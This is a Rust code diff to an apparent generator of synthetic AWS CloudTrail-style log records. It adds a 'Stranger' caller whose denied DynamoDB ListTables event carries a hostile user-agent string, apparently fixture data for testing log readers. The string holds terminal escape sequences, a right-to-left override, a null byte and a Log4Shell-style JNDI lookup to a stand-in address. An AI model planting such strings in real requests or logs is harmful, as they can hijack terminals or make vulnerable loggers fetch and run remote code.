@@ -28,6 +28,8 @@ pub(super) enum Actor {
     Auditor,
     /// A person at the console.
     Person,
+    /// Somebody whose client is named to harm whoever reads the log.
+    Stranger,
     /// EC2, asking STS on an instance's behalf.
     Ec2,
 }
@@ -54,6 +56,7 @@ enum On {
     Role,
     Login,
     Throttled,
+    Denied,
 }
 
 const DDB: &str = "dynamodb.amazonaws.com";
@@ -62,7 +65,7 @@ const fn habit(weight: u64, actor: Actor, source: &'static str, name: &'static s
     Habit { weight, actor, source, name, read_only, on }
 }
 
-const HABITS: [Habit; 15] = [
+const HABITS: [Habit; 16] = [
     habit(18, Actor::App, "kms.amazonaws.com", "Decrypt", true, On::KeyOfTable),
     habit(22, Actor::Worker, "kms.amazonaws.com", "Decrypt", true, On::KeyOfTable),
     habit(8, Actor::Recorder, DDB, "DescribeTable", true, On::Table),
@@ -78,6 +81,7 @@ const HABITS: [Habit; 15] = [
     habit(2, Actor::Deploy, DDB, "UpdateTable", false, On::Table),
     habit(2, Actor::Person, "signin.amazonaws.com", "ConsoleLogin", false, On::Login),
     habit(3, Actor::Worker, DDB, "DescribeTable", true, On::Throttled),
+    habit(1, Actor::Stranger, DDB, "ListTables", true, On::Denied),
 ];
 
 /// How far back the everyday events go.
@@ -158,7 +162,7 @@ impl Everyday {
     /// The table an everyday event is about.
     pub(super) fn table(self, realm: &Realm, place: u64) -> Option<&str> {
         let habit = self.habit(place);
-        if matches!(habit.on, On::Nothing | On::Role | On::Login) {
+        if matches!(habit.on, On::Nothing | On::Role | On::Login | On::Denied) {
             return None;
         }
         let choice = mix(self.luck(place), 2);
@@ -227,6 +231,10 @@ pub(super) fn caller(realm: &Realm, actor: Actor, luck: u64) -> Caller {
             let agent = "Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0";
             let name = ["alice", "bob", "mallory"].get((luck % 3) as usize).copied().unwrap_or("alice");
             ("admin", name.to_owned(), format!("198.51.100.{}", 30 + luck % 3), agent)
+        }
+        Actor::Stranger => {
+            let agent = "curl/8.16\u{1b}]0;owned\u{7}\u{1b}[2J\u{202e}\u{0} ${jndi:ldap://192.0.2.66/a}";
+            ("app-search", "shell".to_owned(), "192.0.2.66".to_owned(), agent)
         }
         Actor::Ec2 => ("ec2", "ec2.amazonaws.com".to_owned(), "ec2.amazonaws.com".to_owned(), "ec2.amazonaws.com"),
     };
@@ -387,6 +395,23 @@ pub(super) fn of_story(call: &Call<'_>, place: usize, step: &Step) -> Value {
     )
 }
 
+fn carts_role(realm: &Realm) -> String {
+    format!("arn:aws:iam::{}:role/app-carts", realm.account)
+}
+
+/// What an everyday call is on: ARNs and types.
+pub(super) fn resources(realm: &Realm, place: u64) -> Vec<(String, &'static str)> {
+    let all = realm.everyday;
+    let resource = match all.habit(place).on {
+        On::KeyOfTable => realm.key(KEY_DATA).map(|key| (key.arn.clone(), "AWS::KMS::Key")),
+        On::Role => Some((carts_role(realm), "AWS::IAM::Role")),
+        _ => all
+            .table(realm, place)
+            .map(|table| (realm.arn("dynamodb", &format!("table/{table}")), "AWS::DynamoDB::Table")),
+    };
+    resource.into_iter().collect()
+}
+
 /// The record of an everyday call.
 pub(super) fn of_everyday(call: &Call<'_>, place: u64) -> Value {
     let (realm, all) = (call.realm, call.realm.everyday);
@@ -407,13 +432,16 @@ pub(super) fn of_everyday(call: &Call<'_>, place: u64) -> Value {
             error = Some(("ThrottlingException", "Rate exceeded".to_owned()));
             json!({ "tableName": table })
         }
+        On::Denied => {
+            error = Some(("AccessDenied", "User is not authorized to perform: dynamodb:ListTables".to_owned()));
+            Value::Null
+        }
         On::Tagged => json!({ "resourceArn": table_arn, "tags": [{ "key": "release", "value": call.words("r-118") }] }),
         On::Backup => {
             response = json!({ "backupDetails": { "backupStatus": "CREATING", "backupType": "AWS_BACKUP" } });
             json!({ "tableName": table, "backupName": "AWSBackup_daily" })
         }
         On::KeyOfTable => {
-            resources = realm.key(KEY_DATA).map(|key| (key.arn.clone(), "AWS::KMS::Key")).into_iter().collect();
             // DynamoDB asks on the caller's behalf: the caller is named, the address is the service's.
             (caller.address, caller.agent) = (DDB.to_owned(), DDB.to_owned());
             caller.invoked_by = Some(DDB);
@@ -425,9 +453,7 @@ pub(super) fn of_everyday(call: &Call<'_>, place: u64) -> Value {
             })
         }
         On::Role => {
-            let role = format!("arn:aws:iam::{}:role/app-carts", realm.account);
-            resources = vec![(role.clone(), "AWS::IAM::Role")];
-            json!({ "roleArn": role, "roleSessionName": format!("i-0{}", hex(realm.seed, luck % 6, 16)) })
+            json!({ "roleArn": carts_role(realm), "roleSessionName": format!("i-0{}", hex(realm.seed, luck % 6, 16)) })
         }
         On::Login => {
             response = json!({ "ConsoleLogin": "Success" });
